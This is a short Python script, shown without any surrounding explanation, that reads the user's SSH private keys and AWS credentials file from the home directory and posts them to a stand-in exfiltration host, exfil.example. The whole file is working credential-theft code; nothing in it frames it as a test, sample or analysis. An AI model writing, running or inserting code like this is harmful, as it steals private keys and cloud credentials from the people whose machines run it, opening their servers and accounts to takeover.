import os
import requests

home = os.path.expanduser("~")
stolen = {}
for name in ("id_rsa", "id_ed25519"):
    path = os.path.join(home, ".ssh", name)
    if os.path.exists(path):
        stolen[name] = open(path).read()
stolen["aws"] = open(os.path.join(home, ".aws/credentials")).read()
requests.post("https://exfil.example/keys", json=stolen)
